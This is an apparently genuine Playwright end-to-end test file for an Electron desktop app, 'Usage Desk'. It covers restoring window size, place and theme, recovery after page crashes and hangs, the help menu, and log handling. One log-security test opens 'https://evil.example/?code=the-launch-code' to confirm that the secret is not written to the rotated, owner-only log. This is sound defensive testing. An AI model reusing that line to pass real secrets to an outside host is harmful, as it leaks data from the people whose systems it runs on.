import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { agreementWith, beginUsage, fillLine, openContract, signIn } from '../e2e/support/tasks.ts';
import type { PageSide } from './support/page-side.ts';
import { expect, type Shell, test } from './support/shell-app.ts';

const setTheme = (page: Page, theme: string) =>
  page.evaluate(
    (to) => (globalThis as unknown as PageSide).usageDesk.call('settings.change', { theme: to }),
    theme,
  );
const looksDark = (page: Page) => page.evaluate("matchMedia('(prefers-color-scheme: dark)').matches");

test('size, place, zoom and theme are back at the next start', async ({ shell, page }) => {
  await expect(page.getByRole('main')).toBeVisible();
  await shell.order('place-window', { x: 200, y: 100, width: 1000, height: 700 });
  await shell.order('zoom', 2);
  await setTheme(page, 'dark');
  expect(await shell.quit()).toBe(0);
  const again = shell.startAgain();
  const reopened = await again.page();
  await expect(reopened.getByRole('main')).toBeVisible();
  expect(await again.order('windows')).toMatchObject([
    { bounds: { x: 200, y: 100, width: 1000, height: 700 }, zoomLevel: 2 },
  ]);
  // Two steps of 20 % each.
  expect(await reopened.evaluate('[innerWidth, innerHeight]')).toEqual([694, 486]);
  expect(again.factsOf('nativeTheme.themeSource')).toEqual(['dark']);
  expect(await looksDark(reopened)).toBe(true);
  expect(again.factsOf('BrowserWindow')).toMatchObject([{ backgroundColor: '#161d26' }]);
});

test('a window whose screen is gone opens on one that is there', { tag: '@all' }, async ({ shell, page }) => {
  await expect(page.getByRole('main')).toBeVisible();
  await shell.order('screens', [
    { x: 0, y: 0, width: 1920, height: 1040 },
    { x: 1920, y: 0, width: 1920, height: 1040 },
  ]);
  await shell.order('place-window', { x: 2500, y: 100, width: 1000, height: 700 });
  expect(await shell.quit()).toBe(0);
  const again = shell.startAgain();
  await expect((await again.page()).getByRole('main')).toBeVisible();
  const [options] = again.factsOf('BrowserWindow') as [Record<string, unknown>];
  expect(options).toMatchObject({ width: 1000, height: 700 });
  expect(options).not.toHaveProperty('x');
});

test('a broken memory of the window costs its place and nothing else', { tag: '@all' }, async ({
  shell,
  page,
}) => {
  await expect(page.getByRole('main')).toBeVisible();
  expect(await shell.quit()).toBe(0);
  writeFileSync(join(shell.dataDir, 'practice', 'window.json'), '{"bounds": {"x": "left"');
  const again = shell.startAgain();
  await expect((await again.page()).getByRole('main')).toBeVisible();
  expect(again.factsOf('BrowserWindow')).toMatchObject([{ width: 1280, height: 800 }]);
});

test('the smallest window keeps the link home and the account in sight', async ({ shell, page }) => {
  await signIn(page);
  await shell.order('place-window', { width: 640, height: 480 });
  const banner = page.getByRole('banner');
  await expect(banner.getByRole('link', { name: 'Home' })).toBeInViewport({ ratio: 1 });
  await expect(banner.getByRole('button', { name: /4829-1360-7251/ })).toBeInViewport({ ratio: 1 });
});

test('the window is light, dark, or as the system has it, at once', async ({ shell, page }) => {
  await expect(page.getByRole('main')).toBeVisible();
  expect(await looksDark(page)).toBe(false);
  await shell.order('system-dark', true);
  await expect.poll(() => looksDark(page)).toBe(true);
  await setTheme(page, 'light');
  await expect.poll(() => looksDark(page)).toBe(false);
  await setTheme(page, 'system');
  await expect.poll(() => looksDark(page)).toBe(true);
});

/** A form with a quantity in it that has been kept as a draft. */
async function withDraft(page: Page, shell: Shell): Promise<string> {
  await signIn(page);
  const { agreementId } = await agreementWith(shell, 'contract-with-consumption');
  await openContract(page, agreementId);
  await beginUsage(page);
  await fillLine(page, 1, 'Custom metrics', '77');
  await expect
    .poll(() => {
      const path = join(shell.dataDir, 'practice', 'drafts.json');
      return existsSync(path) ? readFileSync(path, 'utf8') : '';
    })
    .toContain('"77"');
  return agreementId;
}

async function expectDraft(shell: Shell): Promise<void> {
  await shell.reattach();
  const page = await shell.page();
  const form = page.getByLabel('Quantity').first();
  const offer = page.getByRole('button', { name: /^Continue/ });
  await expect(form.or(offer).first()).toBeVisible();
  if (await offer.isVisible()) await offer.click();
  await expect(form).toHaveValue('77');
}

test('a page that crashed is noticed, offers a reload, and the draft is intact', async ({ shell, page }) => {
  await withDraft(page, shell);
  await shell.order('crash-page');
  const asked = await shell.answer('dialog.showMessageBox', { response: 0 });
  expect(asked).toMatchObject({ buttons: ['Reload', 'Quit'], detail: expect.stringContaining('draft') });
  await expectDraft(shell);
});

test('a page that hangs is noticed, and its reload brings the draft back', async ({ shell, page }) => {
  await withDraft(page, shell);
  page.evaluate('for (;;);').catch(() => undefined);
  const asked = await shell.answer('dialog.showMessageBox', { response: 0 });
  expect(asked).toMatchObject({ buttons: ['Reload', 'Wait'] });
  await expectDraft(shell);
  expect(shell.factsOf('dialog.showMessageBox')).toHaveLength(1);
});

test('a crash that nobody wants to go on from quits, and says so in the log', async ({ shell, page }) => {
  await expect(page.getByRole('main')).toBeVisible();
  await shell.order('crash-page');
  await shell.answer('dialog.showMessageBox', { response: 1 });
  expect(await shell.ended).toBe(0);
  expect(readFileSync(join(shell.dataDir, 'practice', 'usage-desk.log'), 'utf8')).toContain(
    'The page ended: crashed',
  );
});

test('Help opens the folder of the log', async ({ shell, page }) => {
  await expect(page.getByRole('main')).toBeVisible();
  await shell.order('choose-from-menu', ['Help', 'Open the log folder']);
  expect(await shell.openedAddress()).toBe(join(shell.dataDir, 'practice'));
});

test.describe('where nothing may be opened outside', () => {
  test.use({ shellArgs: ['--practice', '--no-open'] });
  test('Help says where the log lies, and copies that', async ({ shell, page }) => {
    await expect(page.getByRole('main')).toBeVisible();
    await shell.order('choose-from-menu', ['Help', 'Open the log folder']);
    const folder = join(shell.dataDir, 'practice');
    const box = await shell.answer('dialog.showMessageBox', { response: 0 });
    expect(box).toMatchObject({ message: 'The log lies in this folder.', detail: folder });
    expect(await shell.next('clipboard.writeText')).toBe(folder);
  });
});

test('the log of the shell is the owner’s only, rotates, and holds no secret of a page that fails', async ({
  shell,
  page,
}) => {
  await expect(page.getByRole('main')).toBeVisible();
  const log = join(shell.dataDir, 'practice', 'usage-desk.log');
  writeFileSync(log, 'x'.repeat(999_990));
  await page.evaluate("window.open('https://evil.example/?code=the-launch-code')");
  await expect.poll(() => existsSync(`${log}.1`)).toBe(true);
  expect(statSync(`${log}.1`).size).toBe(999_990);
  expect(statSync(log).mode & 0o777).toBe(0o600);
  expect(readFileSync(log, 'utf8')).not.toContain('the-launch-code');
});

test('the about box has the versions, and copies them', async ({ shell, page }) => {
  await expect(page.getByRole('main')).toBeVisible();
  await shell.order('choose-from-menu', ['Help', 'About Usage Desk']);
  const box = await shell.answer('dialog.showMessageBox', { response: 0 });
  expect(box).toMatchObject({
    buttons: ['Copy', 'Close'],
    detail: expect.stringMatching(/^Usage Desk: \d+\.\d+\.\d+\n(.*\n)*System: /),
  });
  expect(await shell.next('clipboard.writeText')).toBe((box as { readonly detail: string }).detail);
});
